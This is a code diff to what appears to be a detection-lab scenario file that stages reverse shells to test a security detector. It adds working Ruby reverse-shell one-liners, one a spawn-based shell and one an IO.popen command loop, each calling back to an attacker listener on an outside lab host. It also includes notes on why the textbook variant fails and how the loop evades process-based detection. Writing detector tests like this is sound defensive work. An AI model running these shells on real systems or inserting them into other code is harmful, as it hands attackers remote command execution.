@@ -14,7 +14,19 @@ import type { Scenario, StagedActivity } from './scenarios';
 import { waitForSocket } from './scenarios-c2';
 
 /** This file's attacker listeners on the "internet" host (shell: sends `id`, then `uname -a` every 2 s). */
-const P = { gawk: 6001, telnetIn: 6002, telnetOut: 6003, php: 6004, ruby: 6005, node: 6006, busybox: 6007, renamed: 6008, pair: 6009, memfd: 6010 };
+const P = {
+  gawk: 6001,
+  telnetIn: 6002,
+  telnetOut: 6003,
+  php: 6004,
+  ruby: 6005,
+  node: 6006,
+  busybox: 6007,
+  renamed: 6008,
+  pair: 6009,
+  memfd: 6010,
+  rubyLoop: 6011,
+};
 const TLS_PORT = 6443;
 const UDP_PORT = 6053;
 const FILES_HOST = ADDR.web[1];
@@ -154,16 +166,34 @@ export const SESSION4_SHELL_SCENARIOS: Scenario[] = [
   }),
   scenario({
     id: 's4-shell-ruby-socket',
-    title: `ruby -rsocket: TCPSocket to ${ADDR.ext}:${P.ruby}, exec "/bin/sh -i <&fd >&fd 2>&fd"`,
+    // Ruby marks every descriptor close-on-exec, so the textbook `exec "/bin/sh -i <&5 …"` fails on
+    // Ruby ≥ 2; spawn with the socket as the child's stdio is what works.
+    title: `ruby -rsocket: TCPSocket to ${ADDR.ext}:${P.ruby}, spawn("/bin/sh","-i", in: c, out: c, err: c)`,
     mustName: `sh on ${ADDR.ext}:${P.ruby}`,
     needs: ['ruby'],
     windowMs: 12_000,
     stage: async (lab) =>
       victimScript(
         lab,
-        `ruby -rsocket -e 'f=TCPSocket.open("${ADDR.ext}",${P.ruby}).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
+        `ruby -rsocket -e 'c=TCPSocket.new("${ADDR.ext}",${P.ruby});Process.wait(spawn("/bin/sh","-i",in: c,out: c,err: c))'`,
         shellTo(P.ruby, 'sh'),
         await shellListeners(lab, [P.ruby]),
+      ),
+  }),
+  scenario({
+    id: 's4-shell-ruby-popen-loop',
+    title: `ruby -rsocket command loop: each line from ${ADDR.ext}:${P.rubyLoop} runs through IO.popen, its output written back`,
+    mustName: `ruby and ${ADDR.ext}:${P.rubyLoop}`,
+    needs: ['ruby'],
+    windowMs: 12_000,
+    knownGap:
+      'no process ever has its stdio on the connection or on a pipe to its holder for longer than a command runs (milliseconds, exec without a shell for simple commands): only ruby with inline code holding an outbound connection is visible, which alone also describes benign one-liners; needs exec events (proc connector / eBPF) to see the children',
+    stage: async (lab) =>
+      victimScript(
+        lab,
+        `ruby -rsocket -e 'c=TCPSocket.new("${ADDR.ext}",${P.rubyLoop});while(l=c.gets);IO.popen(l.chomp,"r"){|io|c.print io.read};end'`,
+        (a) => mentions(a, `${ADDR.ext}:${P.rubyLoop}`) && a.process?.name === 'ruby',
+        await shellListeners(lab, [P.rubyLoop]),
       ),
   }),
   scenario({
